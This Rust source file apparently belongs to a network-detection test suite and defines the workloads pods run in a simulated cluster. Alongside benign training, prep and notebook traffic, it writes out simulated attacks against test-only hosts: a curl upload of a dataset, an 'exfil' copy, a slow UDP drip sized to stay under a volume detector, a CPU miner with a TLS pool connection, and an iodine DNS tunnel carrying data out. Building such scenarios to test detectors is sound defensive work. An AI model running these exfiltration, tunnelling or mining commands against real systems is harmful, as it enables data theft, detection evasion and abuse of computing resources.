//! The live scenarios' workloads: what each pod runs (benign background for
//! the whole run, and the attack from t0), and the servers on the
//! "internet" host they talk to. Everything is a real process: Debian curl,
//! dd, iodine/iodined, python3's http.server and ssl, openssl (the TLS
//! certificate), plus the tests' own tg-traffic and tg-signal.

use std::path::{Path, PathBuf};

use crate::strings;

/// Password iodine and iodined share (test-only).
const IODINE_PASS: &str = "tollgate-eval";
/// The tunnel's domain and its inside network (cluster range, unused by
/// the topology: pods are 198.18.1-249.0/24, the service 198.18.250.0/24).
pub const TUNNEL_DOMAIN: &str = "t.tunnel.example";
const TUNNEL_SERVER: &str = "198.18.251.1";

/// The internet host's servers in one python3 process: HTTP on :8080
/// (GET /pkg.bin returns a 2 MB "package", POST/PUT read the body and
/// answer its size) and TLS on :443 (the miner's "pool": answers each
/// line with a short JSON result). Prints `listening` once both are bound.
const SERVERS_PY: &str = r#"
import http.server, socketserver, ssl, sys, threading
host, cert, key = sys.argv[1], sys.argv[2], sys.argv[3]
PKG = bytes(range(256)) * 8192
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Length", str(len(PKG))); self.end_headers()
        self.wfile.write(PKG)
    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0")); got = 0
        while got < n:
            b = self.rfile.read(min(1 << 16, n - got))
            if not b: break
            got += len(b)
        body = str(got).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    do_PUT = do_POST
class T(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True; allow_reuse_address = True
class Pool(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            self.wfile.write(b'{"id":1,"result":true,"error":null}\n')
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
class TlsT(T):
    def get_request(self):
        s, a = self.socket.accept()
        return ctx.wrap_socket(s, server_side=True), a
web = http.server.ThreadingHTTPServer((host, 8080), H)
pool = TlsT((host, 443), Pool)
threading.Thread(target=pool.serve_forever, daemon=True).start()
print("listening", flush=True)
web.serve_forever()
"#;

/// The miner's TLS session: one long-lived connection, a short line every
/// 2 s (a share), COUNT times.
const MINER_CONN_PY: &str = r#"
import socket, ssl, sys, time
host, count = sys.argv[1], int(sys.argv[2])
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
s = ctx.wrap_socket(socket.create_connection((host, 443), timeout=30))
f = s.makefile("rb")
for i in range(count):
    s.sendall(b'{"id":%d,"method":"submit","params":["w","j","00","00","00"]}\n' % i)
    f.readline()
    time.sleep(2)
"#;

/// Files the scenarios share: the dataset on watched (bindfs) storage and
/// the scripts and TLS key in the state directory.
pub struct Files {
    pub dataset: PathBuf,
    pub storage: PathBuf,
    pub servers_py: PathBuf,
    pub miner_py: PathBuf,
    pub cert: PathBuf,
    pub key: PathBuf,
}

impl Files {
    /// Writes the dataset (`mib` MiB, non-zero bytes) through the mount at
    /// `storage`, the scripts and a self-signed certificate into `dir`.
    pub fn create(dir: &Path, storage: &Path, mib: usize) -> Result<Files, String> {
        let w = |p: &Path, b: &[u8]| {
            std::fs::write(p, b).map_err(|e| format!("writing {}: {e}", p.display()))
        };
        let dataset = storage.join("dataset.bin");
        let chunk: Vec<u8> = (0..1u32 << 20).map(|i| (i % 251 + 1) as u8).collect();
        w(&dataset, &chunk.repeat(mib))?;
        let f = Files {
            dataset,
            storage: storage.to_owned(),
            servers_py: dir.join("servers.py"),
            miner_py: dir.join("miner.py"),
            cert: dir.join("pool.crt"),
            key: dir.join("pool.key"),
        };
        w(&f.servers_py, SERVERS_PY.as_bytes())?;
        w(&f.miner_py, MINER_CONN_PY.as_bytes())?;
        let st = std::process::Command::new("openssl")
            .args([
                "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
            ])
            .args(["-subj", "/CN=pool.example"])
            .arg("-keyout")
            .arg(&f.key)
            .arg("-out")
            .arg(&f.cert)
            .output()
            .map_err(|e| format!("openssl req (apt openssl): {e}"))?;
        if !st.status.success() {
            return Err(format!(
                "openssl req: {}",
                String::from_utf8_lossy(&st.stderr)
            ));
        }
        Ok(f)
    }
}

/// The internet host's HTTP + TLS servers (argv for `Host::command`).
pub fn servers_argv(f: &Files, net: &str) -> Vec<String> {
    vec![
        "/usr/bin/python3".into(),
        f.servers_py.display().to_string(),
        net.into(),
        f.cert.display().to_string(),
        f.key.display().to_string(),
    ]
}

/// iodined on the internet host's port 53 (it also receives the benign
/// pods' queries, which it ignores). Prints `listening` first, then execs,
/// so the Sink's PID is iodined's.
pub fn iodined_argv(net: &str) -> Vec<String> {
    sh(&format!(
        "echo listening; exec iodined -f -c -P {IODINE_PASS} -l {net} {TUNNEL_SERVER}/27 {TUNNEL_DOMAIN}"
    ))
}

/// Whether Debian's iodine is installed (`cargo xtask setup` installs it).
pub fn have_iodine() -> bool {
    ["/usr/sbin/iodine", "/usr/sbin/iodined"]
        .iter()
        .all(|p| Path::new(p).exists())
}

fn sh(script: &str) -> Vec<String> {
    vec!["sh".into(), "-c".into(), script.into()]
}

/// Training job: reads the dataset from storage, 1 MiB a second, in
/// 64 KiB blocks, for at most `secs` seconds.
pub fn train_reads(f: &Files, secs: u64) -> Vec<String> {
    sh(&format!(
        "n=$(( $(stat -c %s {ds}) / 1048576 )); i=0; while [ $i -lt {secs} ]; do dd if={ds} of=/dev/null bs=64k count=16 skip=$(( (i % n) * 16 )) status=none; i=$((i+1)); sleep 1; done",
        ds = f.dataset.display()
    ))
}

/// Data prep: reads 512 KiB of the dataset and writes it back transformed
/// to its own file on storage, once a second.
pub fn prep(f: &Files, pod: &str, secs: u64) -> Vec<String> {
    sh(&format!(
        "n=$(( $(stat -c %s {ds}) / 1048576 )); i=0; while [ $i -lt {secs} ]; do dd if={ds} bs=64k count=8 skip=$(( (i % n) * 16 )) status=none | tr 'a-z' 'A-Z' > {out}; i=$((i+1)); sleep 1; done",
        ds = f.dataset.display(),
        out = f.storage.join(format!("prep-{pod}.out")).display()
    ))
}

/// Notebook: package-install bursts, 3 downloads of 2 MB back to back
/// every 6 s.
pub fn notebook(net: &str, secs: u64) -> Vec<String> {
    sh(&format!(
        "i=0; while [ $i -lt {secs} ]; do for k in 1 2 3; do curl -s -o /dev/null --max-time 20 http://{net}:8080/pkg.bin; done; i=$((i+6)); sleep 6; done"
    ))
}

/// Bulk HTTP upload of the dataset with curl.
pub fn upload(f: &Files, net: &str) -> Vec<String> {
    vec![
        "curl".into(),
        "-sS".into(),
        "-o".into(),
        "/dev/null".into(),
        "--max-time".into(),
        "300".into(),
        "--data-binary".into(),
        format!("@{}", f.dataset.display()),
        format!("http://{net}:8080/upload"),
    ]
}

/// Copying the dataset to another file on shared storage.
pub fn storage_copy(f: &Files) -> Vec<String> {
    vec![
        "cp".into(),
        f.dataset.display().to_string(),
        f.storage.join("exfil-copy.bin").display().to_string(),
    ]
}

/// Slow drip: 1000 B every 50 ms (20 KB/s, far under exfil.volume's floor)
/// to the metrics sink the class always uses.
pub fn drip(traffic: &str, net: &str) -> Vec<String> {
    [
        traffic,
        "udp-send",
        "--to",
        &format!("{net}:9002"),
        "--count",
        "6000",
        "--size",
        "1000",
        "--interval-ms",
        "50",
        "--timeout-s",
        "600",
    ]
    .map(String::from)
    .to_vec()
}

/// CPU miner behind TLS: two busy loops (bounded by `timeout`) and one
/// long-lived TLS connection to :443 that sends a share every 2 s.
pub fn tls_miner(f: &Files, net: &str) -> Vec<String> {
    sh(&format!(
        "timeout 300 sh -c 'while :; do :; done' & timeout 300 sh -c 'while :; do :; done' & exec /usr/bin/python3 {py} {net} 150",
        py = f.miner_py.display()
    ))
}

/// iodine client (raw mode off, so everything goes through DNS queries).
pub fn iodine(net: &str) -> Vec<String> {
    sh(&format!(
        "exec timeout 300 iodine -f -r -P {IODINE_PASS} {net} {TUNNEL_DOMAIN}"
    ))
}

/// Data through the tunnel once it is up: waits (bounded) for dns0, then
/// 1000 B datagrams to the tunnel's server side, 20 a second.
pub fn through_tunnel(traffic: &str) -> Vec<String> {
    sh(&format!(
        "i=0; while [ $i -lt 300 ] && ! ip addr show dns0 2>/dev/null | grep -q inet; do i=$((i+1)); sleep 0.1; done; exec {traffic} udp-send --to {TUNNEL_SERVER}:9201 --count 3000 --size 1000 --interval-ms 50 --timeout-s 300"
    ))
}

/// The programs and peer addresses a pod's workload uses.
pub struct Peers<'a> {
    pub traffic: &'a str,
    pub signal: &'a str,
    /// The internet host.
    pub net: &'a str,
    /// The cluster service host.
    pub svc: &'a str,
}

/// A pod's benign behaviour for `secs` seconds, by class: training pods
/// read the dataset, push small metrics and resolve a few names; data
/// prep reads and writes storage; notebooks download packages in bursts;
/// the service answers (small internal datagrams).
pub fn background(
    class: &str,
    pod: &str,
    files: &Files,
    p: &Peers<'_>,
    secs: u64,
) -> Vec<Vec<String>> {
    let mut argvs: Vec<Vec<String>> = Vec::new();
    match class {
        "service" => argvs.push(strings(&[
            p.traffic,
            "udp-send",
            "--to",
            &format!("{}:9003", p.svc),
            "--count",
            "20000",
            "--size",
            "300",
            "--interval-ms",
            "50",
            "--timeout-s",
            "600",
        ])),
        "pipeline" => argvs.push(prep(files, pod, secs)),
        "notebook" => argvs.push(notebook(p.net, secs)),
        _ => {
            argvs.push(strings(&[
                p.traffic,
                "udp-send",
                "--to",
                &format!("{}:9002", p.net),
                "--count",
                "9000",
                "--size",
                "200",
                "--interval-ms",
                "100",
                "--timeout-s",
                "600",
            ]));
            argvs.push(strings(&[
                p.signal,
                "dns",
                "--to",
                &format!("{}:53", p.net),
                "--count",
                "1200",
                "--prefix",
                "storage",
                "--suffix",
                "corp.example",
                "--interval-ms",
                "500",
            ]));
            argvs.push(train_reads(files, secs));
        }
    }
    argvs
}
